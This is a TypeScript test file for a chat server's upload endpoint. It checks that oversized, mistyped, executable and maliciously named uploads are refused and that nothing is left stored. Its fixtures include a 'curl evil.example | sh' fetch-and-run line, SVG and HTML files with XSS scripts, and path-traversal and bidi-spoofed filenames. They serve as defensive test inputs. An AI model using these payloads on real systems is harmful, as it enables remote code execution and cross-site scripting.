/**
 * The bad-input catalogue (docs/guarantees.md), row 18: oversized or mistyped uploads are
 * refused by a streaming size cap and a content check. Each case gets a clear error, nothing is
 * stored (no row, no file on disk), and the server and everyone else carry on.
 */
import { request } from 'node:http';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ErrorCode } from '@quickchat/protocol';
import { expectRestError, expectUnharmed, setupScene, tableCounts, teardown, type Scene } from './support/bad-input.js';
import { chunksOf, filesOnDisk, pngImage, streamUpload, upload, uploadPath } from './support/uploads.js';

const CAP = 1024 * 1024;
let s: Scene | null = null;
let before: Record<string, number>;

beforeEach(async () => {
  s = await setupScene({ limits: { maxUploadBytes: CAP } });
  before = tableCounts(s);
});
afterEach(async () => {
  await teardown(s);
  s = null;
});

/** Uploads as alice to her DM with bob and expects the refusal, then that nothing was kept and nobody was harmed. */
async function expectRefused(name: string, bytes: Buffer, status: number, code: string, message: RegExp): Promise<void> {
  const res = await upload(s!.t.url, s!.alice, s!.ab, name, bytes);
  expectRestError(res, status, code);
  expect((res.body as unknown as { error: { message: string } }).error.message).toMatch(message);
  await expectNothingKept();
}

async function expectNothingKept(): Promise<void> {
  expect(tableCounts(s!)).toEqual(before);
  expect(filesOnDisk(s!.t.dataDir)).toEqual([]);
  await expectUnharmed(s!);
  // expectUnharmed stores a message of its own: the next case compares with the data as it is now.
  before = tableCounts(s!);
}

const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>');
const html = Buffer.from('<!DOCTYPE html>\n<html><body><script>fetch("/api/me")</script></body></html>');
const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
const pe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('PE\0\0'), Buffer.alloc(64)]);

describe('bad input, row 18: uploads', () => {
  it('wrong magic bytes: an unknown binary, and a file whose name claims another type, are refused', async () => {
    await expectRefused('data.bin', Buffer.from([0x00, 0x13, 0x37, 0xfe, 0x01, 0x02, 0x03, 0x04, 0x05]), 400, ErrorCode.Validation, /not accepted/);
    await expectRefused('photo.png', Buffer.from('%PDF-1.4\n%%EOF\n'), 400, ErrorCode.Validation, /named \.png but its content is a PDF document/);
    await expectRefused('notes.txt', await pngImage(8, 8), 400, ErrorCode.Validation, /named \.txt but its content is a PNG image/);
  });

  it('SVG, even disguised as a PNG or behind an XML prolog, is refused', async () => {
    await expectRefused('cat.png', svg, 400, ErrorCode.Validation, /SVG/);
    await expectRefused('drawing', Buffer.concat([Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n'), svg]), 400, ErrorCode.Validation, /SVG/);
    await expectRefused('cat.svg', await pngImage(8, 8), 400, ErrorCode.Validation, /\.svg are not accepted/);
  });

  it('HTML, XHTML and XML are refused, by their bytes and by their names', async () => {
    await expectRefused('page.txt', html, 400, ErrorCode.Validation, /HTML/);
    await expectRefused('readme', Buffer.from('Thanks!\n<script>alert(1)</script>\n'), 400, ErrorCode.Validation, /HTML/);
    await expectRefused('feed', Buffer.from('<?xml version="1.0"?><rss></rss>'), 400, ErrorCode.Validation, /XML/);
    await expectRefused('invoice.html', Buffer.from('%PDF-1.4\n%%EOF\n'), 400, ErrorCode.Validation, /\.html are not accepted/);
  });

  it('an image header followed by something else is refused because it does not decode', async () => {
    const png = await pngImage(16, 16);
    await expectRefused('fake.png', Buffer.concat([png.subarray(0, 16), html]), 400, ErrorCode.Validation, /does not decode as one/);
    await expectRefused('cut.png', png.subarray(0, png.length - 30), 400, ErrorCode.Validation, /does not decode as one/);
  });

  it('executables are refused: ELF, PE, and scripts with a shebang', async () => {
    await expectRefused('tool', elf, 400, ErrorCode.Validation, /ELF/);
    await expectRefused('setup.pdf', pe, 400, ErrorCode.Validation, /Windows executable/);
    await expectRefused('run.txt', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 400, ErrorCode.Validation, /#!/);
    await expectRefused('setup.exe', Buffer.from('just text'), 400, ErrorCode.Validation, /\.exe are not accepted/);
  });

  it('a zero-byte file is refused', async () => {
    await expectRefused('empty.txt', Buffer.alloc(0), 400, ErrorCode.Validation, /empty/);
    // Chunked, so the server only learns it is empty at the end of the stream.
    const res = await streamUpload(s!.t.url, s!.alice.token, uploadPath(s!.ab, 'empty.txt'), []);
    expect([res.status, res.body.error?.code, res.body.error?.message]).toEqual([400, ErrorCode.Validation, 'the file is empty']);
    await expectNothingKept();
  });

  it('names with path separators, control characters, dot names or bidi tricks are refused before anything is read', async () => {
    const names = ['../secrets.json', 'a/b.png', 'a\\b.png', '..', '.', 'line\nbreak.txt', 'nul\u0000.txt', 'bell\u0007.txt', 'photo\u202egnp.exe', ''];
    for (const name of names) {
      const res = await upload(s!.t.url, s!.alice, s!.ab, name, Buffer.from('hello'));
      expectRestError(res, 400, ErrorCode.Validation);
      expect((res.body as unknown as { error: { message: string } }).error.message, JSON.stringify(name)).toMatch(/name/);
    }
    await expectNothingKept();
  });

  it('oversize is cut off mid-stream: the 413 arrives long before the body was sent, and nothing stays on disk', async () => {
    const png = await pngImage(8, 8);
    const total = 64 * CAP;
    const res = await streamUpload(s!.t.url, s!.alice.token, uploadPath(s!.ab, 'huge.png'), chunksOf(png, 64 * 1024, total / (64 * 1024)));
    expect(res.status).toBe(413);
    expect(res.body).toEqual({ error: { code: ErrorCode.PayloadTooLarge, message: `the file is larger than this server accepts (at most ${CAP} bytes)` } });
    expect(res.headers['connection']).toBe('close');
    expect(res.finishedSending).toBe(false);
    expect(res.sentBeforeResponse).toBeLessThan(total / 4);
    await expectNothingKept();
  });

  it('a declared Content-Length past the cap is refused before a byte of the body is read', async () => {
    const res = await streamUpload(s!.t.url, s!.alice.token, uploadPath(s!.ab, 'huge.txt'), chunksOf(Buffer.from('x'), 64 * 1024, 64), 64 * CAP);
    expect([res.status, res.body.error?.code]).toEqual([413, ErrorCode.PayloadTooLarge]);
    expect(res.finishedSending).toBe(false);
    await expectNothingKept();
  });

  it('an upload the client abandons halfway leaves nothing behind', async () => {
    const { hostname, port } = new URL(s!.t.url);
    const req = request({ host: hostname, port, method: 'POST', path: uploadPath(s!.ab, 'partial.pdf'), headers: { authorization: `Bearer ${s!.alice.token}`, 'content-type': 'application/octet-stream' } });
    req.on('error', () => undefined);
    await new Promise<void>((written) => req.write(Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(256 * 1024, 0x61)]), () => written()));
    await vi.waitFor(() => expect(filesOnDisk(s!.t.dataDir)).toEqual([expect.stringMatching(/^\.incoming\/.*\.part$/)]));
    req.destroy();
    await vi.waitFor(() => expect(filesOnDisk(s!.t.dataDir)).toEqual([]));
    await expectNothingKept();
  });

  it('a file sent as JSON instead of raw bytes is refused with a hint', async () => {
    const res = await s!.rest.call('POST', uploadPath(s!.ab, 'data.json'), { token: s!.alice.token, body: { not: 'raw' } });
    expectRestError(res, 400, ErrorCode.Validation);
    expect(res.body.error.message).toMatch(/application\/octet-stream/);
    await expectNothingKept();
  });
});
